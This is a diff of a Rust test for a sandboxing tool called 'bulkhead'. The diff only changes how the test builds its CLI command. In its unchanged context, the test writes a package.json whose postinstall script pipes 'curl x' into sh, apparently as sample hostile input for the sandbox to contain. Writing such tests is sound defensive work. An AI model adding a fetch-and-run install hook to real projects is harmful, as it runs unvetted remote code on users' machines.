@@ -21,13 +21,11 @@ guest_test!(
                       echo '{\"scripts\": {\"postinstall\": \"curl x | sh\"}}' > package.json";
 
         // Act
-        let out = Command::new(&a.cli)
+        let out = a
+            .cli_command()
             .args(["run", "--workspace", &workspace, "--export-patch"])
             .arg(&patch)
             .args(["--", "sh", "-c", script])
-            .env("BULKHEAD_KERNEL", &a.vmlinux)
-            .env("BULKHEAD_INITRD", &a.agent_initrd)
-            .env("BULKHEAD_VMM", &a.vmm)
             .output()
             .expect("run bulkhead");
 
